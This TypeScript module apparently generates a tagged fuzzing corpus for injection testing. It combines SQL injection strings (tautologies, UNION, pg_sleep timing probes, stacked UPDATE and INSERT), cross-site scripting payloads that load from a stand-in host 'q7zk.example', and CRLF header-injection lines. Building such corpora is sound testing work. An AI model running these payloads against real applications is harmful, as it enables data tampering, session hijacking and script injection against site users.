/** A text that nobody else writes: wherever it appears, it came from these attacks. */
export const MARK = "q7zk";

/** How the author of a statement may have quoted the value that an attack replaces. */
const ENDS_OF_VALUES = ["'", '"', "')", "'))", "1", "1)", "1))", "\\'", "%'", "';", "`", "$$", "E'\\''", "\u02bc", ""];

/** What an attack adds to the statement; each addition shows by an error, by its time or by its mark in the statement. */
const STATEMENTS = [
  ` or '${MARK}'='${MARK}'`,
  ` and 1=cast('${MARK}' as int)`,
  `||(select '${MARK}'||pg_sleep(1))||'`,
  `; select pg_sleep(1), '${MARK}'`,
  ` or (select 1 from pg_sleep(1))=1 /*${MARK}*/`,
  ` union select null, '${MARK}'`,
  ` union all select null,null,null,null,null,'${MARK}'`,
  ` order by 99 /*${MARK}*/`,
  ` limit 0 offset (select 1) /*${MARK}*/`,
  `; update students set first_name='${MARK}'`,
  `; insert into audit select '${MARK}'`,
  ` and extractvalue(1,'${MARK}')`,
  ` or exists(select * from students where email like '${MARK}%')`,
  `, (case when true then pg_sleep(1) else '${MARK}' end)`,
  ` procedure analyse('${MARK}')`,
  ` having '${MARK}'=1`,
];

/** How the rest of the statement is made harmless. */
const REMAINDERS = ["--", " -- -", "/*", "#", "", " and '1'='1", ' and "1"="1', ";\u0000", ")--", "))--"];

/** Texts that would become part of an SQL statement that is put together from text: 2,400 of them. */
export const SQL: readonly string[] = ENDS_OF_VALUES.flatMap((end) =>
  STATEMENTS.flatMap((statement) => REMAINDERS.map((remainder) => `${MARK}${end}${statement}${remainder}`)),
);

/** Where in a page a text may be placed, and how an attack gets out of there. */
const ENDS_OF_MARKUP = [
  ...["", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "\u0000", '" '],
  "`>",
];

const MARKUP = [
  `<${MARK}>`,
  `<script>${MARK}()</script>`,
  `<ScRiPt src=//${MARK}.example></sCrIpT>`,
  `<img src=x onerror=${MARK}()>`,
  `<svg/onload=${MARK}()>`,
  `<svg><animate onbegin=${MARK}() attributeName=x>`,
  `<iframe srcdoc="<b ${MARK}>">`,
  `<details open ontoggle=${MARK}()>`,
  `<a href="javascript:${MARK}()">x</a>`,
  `<math><mtext><style><img ${MARK}></style></math>`,
  `<noscript><p title="</noscript><img ${MARK}>">`,
  `<base href=//${MARK}.example>`,
  `<meta http-equiv=refresh content="0;url=//${MARK}.example">`,
  `<form action=//${MARK}.example>`,
  `<b/style=position:fixed ${MARK}>`,
  `\uff1cscript\uff1e${MARK}\uff1c/script\uff1e`,
  `&lt;img ${MARK}&gt;`,
  `\\u003cimg ${MARK}\\u003e`,
  `%3Cimg%20${MARK}%3E`,
  `+ADw-img ${MARK}+AD4-`,
  `onfocus=${MARK}() autofocus x="`,
  `\${${MARK}}{{${MARK}}}<%= ${MARK} %>#{${MARK}}`,
];

/** Texts that would run in a page that took them for markup. */
export const HTML: readonly string[] = ENDS_OF_MARKUP.flatMap((end) => MARKUP.map((markup) => `${end}${markup}`));

/** Texts that would begin a header, a line of a log or another request. */
export const LINES: readonly string[] = ["\r\n", "\n", "\r", "\u0085", "\u2028", "%0d%0a", "\\r\\n", "嘊嘍"].flatMap(
  (end) =>
    [`X-${MARK}: 1`, `Set-Cookie: ${MARK}=1`, `Bcc: ${MARK}@example.com`].map((header) => `${MARK}${end}${header}`),
);
